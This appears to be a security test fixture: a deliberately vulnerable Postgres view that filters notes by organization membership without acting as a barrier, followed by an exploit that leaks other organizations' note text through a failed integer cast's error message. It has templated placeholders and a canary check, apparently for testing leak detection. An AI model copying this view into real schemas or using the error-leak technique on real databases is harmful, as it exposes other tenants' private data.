-- mutant: A definer view that filters by membership but is no barrier: a cast in the caller's filter fails on foreign rows
-- base: plain
-- family: leaky-filter
-- leaks: the notes of every organization, one after the other, in the text of an error
create view app.note_board as
  select n.id, n.org_id, n.body from app.notes n
  where exists (
    select from app.memberships m where m.org_id = n.org_id and m.user_id = (select auth.uid()));
grant select on app.note_board to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated"}
do $$
begin
  perform from app.note_board where org_id = '{{b}}' and body::integer = 0;
exception
  when invalid_text_representation then
    perform set_config('exploit.seen', sqlerrm, true);
end
$$;
select told from current_setting('exploit.seen', true) as told where told like '%canary-globex%';
